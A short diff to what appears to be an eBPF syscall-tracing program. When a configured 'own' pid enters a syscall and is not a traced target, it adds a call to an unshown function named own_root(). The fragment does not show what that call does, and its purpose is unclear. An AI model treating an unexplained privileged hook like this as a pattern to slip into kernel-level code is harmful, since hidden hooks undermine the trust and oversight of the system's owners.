@@ -262,8 +262,11 @@ int BPF_PROG(sys_enter, struct pt_regs *regs, long number)
 		return 0;
 	flight = OF_THREAD(flights, task, 0);
 	if (!flight) {
-		if (!bpf_map_lookup_elem(&targets, &pid))
+		if (!bpf_map_lookup_elem(&targets, &pid)) {
+			if (settings.own && pid == settings.own)
+				own_root();
 			return 0;
+		}
 		flight = OF_THREAD(flights, task, only(&empty_flight));
 		if (!flight) {
 			__sync_fetch_and_add(&settings.lost, 1);
